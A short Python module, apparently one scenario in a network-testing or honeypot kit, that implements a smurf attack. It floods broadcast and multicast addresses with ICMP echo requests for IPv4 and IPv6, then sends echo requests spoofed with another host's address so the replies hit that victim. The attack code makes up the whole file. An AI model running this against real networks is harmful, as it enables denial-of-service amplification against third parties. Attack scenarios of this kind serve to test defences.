# SPDX-License-Identifier: Apache-2.0
"""One echo request to everybody (smurf): all machines of the network answer the victim."""
from kit import *

ALLOWED = ICMP


def attack(pot, out, family):
    to = ["255.255.255.255", "10.66.0.255", "224.0.0.1"] if family == 4 else ["ff02::1", "ff02::2", "ff05::1"]
    for n in range(100):
        for dst in to:
            mac = group(dst) if dst.startswith(("224", "ff")) else BROADCAST
            pot.send(ethernet(mac, pot.mac, ping(pot.ip(family), dst, n)))
    pot.send_packets([ping(out.ip(family), dst, 7) for dst in to])
